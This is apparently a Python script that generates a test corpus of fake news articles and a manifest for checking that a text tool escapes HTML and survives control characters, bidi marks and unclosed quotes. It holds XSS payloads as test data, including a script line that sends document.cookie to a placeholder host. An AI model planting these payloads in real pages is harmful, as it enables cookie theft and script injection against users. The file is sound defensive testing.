"""Write the hostile corpus in ``tests/data/hostile/`` (run it again after editing).

Usage::

    .venv/bin/python tests/data/make_hostile.py            # writes tests/data/hostile/
    .venv/bin/python tests/data/make_hostile.py OUT_DIR

Articles a corpus tool must survive: markup that would run if pasted into a
page unescaped (``<script>``, ``<img onerror>``, ``javascript:`` links),
markdown and HTML fragments, control characters and odd line ends,
right-to-left and invisible formatting marks, a text without sentence
punctuation, and quotation marks that never close. The manifest carries
hostile strings too (titles, outlets, urls), because metadata lands in the
HTML report as well. The 20 MB article is not here: tests build it in a
temporary folder with :func:`big_article` (it must not be committed).

Every hostile string is also listed in :data:`PAYLOADS`, the exact
substrings a test looks for, unescaped, in any HTML we write.
"""
from __future__ import annotations

import hashlib
import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
OUT = HERE / "hostile"

# Substrings that must never appear raw in HTML we write (each is executable markup).
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">',
    '<div onclick="alert(1)">',
    "<svg onload=alert(1)>",
]

RLO, PDF, RLM, LRM, ZWJ, ZWSP, BOM = "\u202e", "\u202c", "\u200f", "\u200e", "\u200d", "\u200b", "\ufeff"

DOCUMENTS: list[tuple[dict, str]] = [
    ({"id": "script-tag", "outlet": "Scripted <script>alert(1)</script> Daily",
      "title": "Council <script>alert(1)</script> votes on budget", "url": "javascript:alert(1)", "published": "2025-02-11"},
     "Council <script>alert(1)</script> votes on budget\n\n"
     "The city council voted on Tuesday to approve the budget. <script>alert(1)</script> The mayor welcomed the result.\n\n"
     "\u201cThis <script>alert(1)</script> budget protects every school,\u201d the mayor said. Critics disagreed.\n\n"
     "<script>document.location='http://example.invalid/?c='+document.cookie</script>\n\n"
     "Opposition leader Maria Lopez said the plan would raise taxes. She called it \u201ca mistake\u201d.\n"),
    ({"id": "img-onerror", "outlet": "<img src=x onerror=alert(1)> Herald",
      "title": "<img src=x onerror=alert(1)>", "published": "2025-02-11"},
     "Talks resume after a long pause\n\n"
     "\u201c<img src=x onerror=alert(1)>\u201d was the only thing the spokesman wrote, officials said.\n\n"
     "Negotiators met again on Wednesday. <img src=x onerror=alert(1)> They agreed to meet next week.\n\n"
     "The minister said the talks were \u201cuseful <svg onload=alert(1)> and frank\u201d. Nothing was signed.\n"),
    ({"id": "markdown-html", "outlet": "Markdown & <b>Markup</b> Weekly", "title": "# Not a heading **bold** [x](javascript:alert(1))",
      "published": "2025-02-12"},
     "# Markdown Heading That Is Not Ours\n\n"
     "**Bold claim:** the bridge will open in *June*, the engineer said. See [the plan](javascript:alert(1)).\n\n"
     "![a picture](x \"onerror=alert(1)\")\n\n"
     "| column | value |\n|---|---|\n| cost | 12 million |\n\n"
     "<div onclick=\"alert(1)\">Click here</div> and <a href=\"javascript:alert(1)\">this link</a> are not text we trust.\n\n"
     "<iframe src=javascript:alert(1)></iframe> <!-- a comment --> &lt;escaped&gt; &amp; &#x3C;script&#x3E;\n\n"
     "> A quoted block, said the mayor. It ends here.\n\n"
     "```\ncode fence with <script>alert(1)</script>\n```\n\n"
     "The council said the bridge would cost 12 million euros. It will open in June.\n"),
    ({"id": "control-chars", "outlet": "Control Room", "title": "Bells\u0007 and escapes", "published": "2025-02-12"},
     "Bells and escapes in the text\r\n\r\n"
     "The report\u0007 was filed late.\u001b[31m Red text follows.\u001b[0m The editor apologised.\r\n\r\n"
     "A form feed\u000c splits this line. A vertical tab\u000b too. A line separator\u2028and a paragraph separator\u2029end here.\r\n"
     "Old Mac line ends\rare here\rtoo. A next-line mark\u0085is here.\n"
     "Tabs\tinside\ta sentence are fine. The officials said so on Monday.\n"),
    ({"id": "right-to-left", "outlet": "Bidi " + RLO + "swen" + PDF + " Times", "title": "Names " + RLM + "in two scripts", "published": "2025-02-13"},
     "Names in two scripts\n\n"
     "The file was called \u201cinvoice" + RLO + "fdp.exe" + PDF + "\u201d, the investigators said. It was malware.\n\n"
     "The Hebrew name " + RLM + "\u05e9\u05dc\u05d5\u05dd" + RLM + " and the Arabic name \u0633\u0644\u0627\u0645" + LRM + " both mean peace.\n\n"
     "Hidden" + ZWSP + "spaces and joiners" + ZWJ + " sit in this" + BOM + " sentence. \u2066Isolated\u2069 text too.\n\n"
     "\u201c" + RLO + "This quote is reversed on screen" + PDF + ",\u201d the spokesman said.\n"),
    ({"id": "no-punctuation", "outlet": "Run On Press", "title": "", "published": "2025-02-13"},
     " ".join(["the minister spoke to reporters outside the building and said that the talks would go on for weeks"] * 12)
     + "\n\n" + " ".join(["officials from both sides met again and again without any result that anyone could see"] * 8) + "\n"),
    ({"id": "unclosed-quotes", "outlet": "Open Quote Gazette", "title": "Quotes that never close", "published": "2025-02-14"},
     "Quotes that never close\n\n"
     "\u201cWe will never accept this, the spokesman said on Monday. The talks are over.\n\n"
     "The minister replied: \"There is nothing to discuss. Nobody expected a deal.\n\n"
     "A third paragraph opens \u201cyet another quote and \u201canother inside it, officials said.\n\n"
     "\u00abGuillemets open here, said the envoy. \u2018Single marks open too.\n\n"
     "The last paragraph is plain. Peskov said the Kremlin would not comment.\n"),
]


def _toml_string(value: str) -> str:
    # JSON escapes control characters as \\u00XX, which TOML accepts; other text stays literal.
    return json.dumps(value, ensure_ascii=False)


def write(out: Path = OUT) -> Path:
    """Write the articles and ``corpus.toml`` (with SHA-256 per file) into ``out``."""
    out.mkdir(parents=True, exist_ok=True)
    lines = ["# Generated by tests/data/make_hostile.py; edit that script, not this file.", "",
             "[corpus]", 'name = "hostile"',
             'description = "Articles with markup, control characters, bidi marks, no punctuation and unclosed quotes <script>alert(1)</script>"',
             ""]
    for meta, text in DOCUMENTS:
        data = text.encode("utf-8")
        name = f"{meta['id']}.txt"
        (out / name).write_bytes(data)
        lines += ["[[documents]]", f"id = {_toml_string(meta['id'])}", f"file = {_toml_string(name)}",
                  f'sha256 = "{hashlib.sha256(data).hexdigest()}"']
        lines += [f"{key} = {_toml_string(value)}" for key, value in meta.items() if key != "id"]
        lines.append("")
    (out / "corpus.toml").write_text("\n".join(lines), encoding="utf-8")
    return out


SEED_SENTENCES = [
    "The minister said on Tuesday that the talks would continue.",
    "\u201cWe are ready to negotiate,\u201d the spokesman told reporters.",
    "Officials from both sides met in Geneva for three hours.",
    "Peskov said the Kremlin had not received any proposal.",
    "About 1,200 square kilometres changed hands, according to analysts.",
]


def big_article(size: int = 20_000_000) -> bytes:
    """About ``size`` bytes of article text: seed sentences repeated, a paragraph every 12 sentences."""
    paragraph = " ".join(SEED_SENTENCES * 3) + "\n\n"
    data = paragraph.encode("utf-8")
    return data * max(1, size // len(data))


if __name__ == "__main__":
    folder = write(Path(sys.argv[1]) if len(sys.argv) > 1 else OUT)
    print(f"wrote {len(DOCUMENTS)} documents to {folder}")
